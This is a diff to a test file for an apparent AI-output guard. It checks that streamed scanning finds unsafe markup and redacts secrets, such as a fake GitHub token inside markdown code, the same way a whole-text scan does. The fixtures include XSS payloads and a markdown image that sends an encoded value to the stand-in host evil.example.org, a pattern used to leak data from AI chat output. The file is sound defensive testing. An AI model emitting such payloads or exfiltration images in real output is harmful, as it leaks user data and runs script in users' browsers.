@@ -160,10 +160,11 @@ describe("streaming with the guard's adaptive hold-back", () => {
 });
 
 describe("markup inside markdown code, streamed", () => {
-  // Unsafe output only flagged, so the stream runs to its end and its findings can be compared.
+  // Unsafe output and secrets only flagged, so the stream runs to its end and its findings can be compared.
   const guard = new Guard({
-    output: { ...DEFAULT_GUARD_POLICY.output, unsafeOutput: "flag", injection: "off", secrets: "off", pii: "off" },
+    output: { ...DEFAULT_GUARD_POLICY.output, unsafeOutput: "flag", injection: "off", secrets: "flag", pii: "off" },
   });
+  const compared = (f: Finding) => f.kind === "unsafe_output" || f.kind === "secret";
   const CODE_PIECES = [
     "```html\n",
     "```\n",
@@ -183,6 +184,7 @@ describe("markup inside markdown code, streamed", () => {
     "`<img src=x onerror=alert(1)>` ",
     "![p](https://evil.example.org/p.png?d=Zq8vN2rT5wX7pL4m) ",
     '<a href="javascript:alert(1)">x</a> ',
+    "token ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5 ",
     "prose that runs on for a while so that a backtick pair can fall out of reach of each other. ".repeat(2),
   ];
   const key = (f: Finding) => `${f.type}@${f.start}-${f.end}`;
@@ -194,7 +196,7 @@ describe("markup inside markdown code, streamed", () => {
         fc.array(fc.integer({ min: 1, max: 61 }), { minLength: 1, maxLength: 30 }),
         (pieces, sizes) => {
           const text = pieces.join("");
-          const whole = guard.scan(text, { direction: "output" }).findings.filter((f) => f.kind === "unsafe_output");
+          const whole = guard.scan(text, { direction: "output" }).findings.filter(compared);
           const stream = guard.stream({ direction: "output" });
           const found: Finding[] = [];
           let released = "";
@@ -209,17 +211,23 @@ describe("markup inside markdown code, streamed", () => {
           released += last.text;
           found.push(...last.findings);
           assert.equal(released, text);
-          assert.deepEqual(
-            found
-              .filter((f) => f.kind === "unsafe_output")
-              .map(key)
-              .sort(),
-            whole.map(key).sort(),
-          );
+          assert.deepEqual(found.filter(compared).map(key).sort(), whole.map(key).sort());
         },
       ),
       { numRuns: 300 },
     );
+  });
+
+  it("a secret inside markdown code is still a secret: the stream redacts it like the whole-text scan", () => {
+    const redacting = new Guard();
+    // Markup beside it in the code: findings inside code are dropped for unsafe output only.
+    const answer = `Set it like this:\n\n\`\`\`sh\necho '<script>go()</script>'\nexport GITHUB_TOKEN=ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5\n\`\`\`\nand \`ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5\`.`;
+    const stream = redacting.stream({ direction: "output" });
+    let out = "";
+    for (let i = 0; i < answer.length; i += 9) out += stream.push(answer.slice(i, i + 9)).text;
+    out += stream.end().text;
+    assert.ok(!out.includes("ghp_aB3dE5"), out);
+    assert.equal(out, redacting.scan(answer, { direction: "output" }).text);
   });
 
   it("a fence opened thousands of characters earlier still makes markup text; outside it, markup blocks", () => {
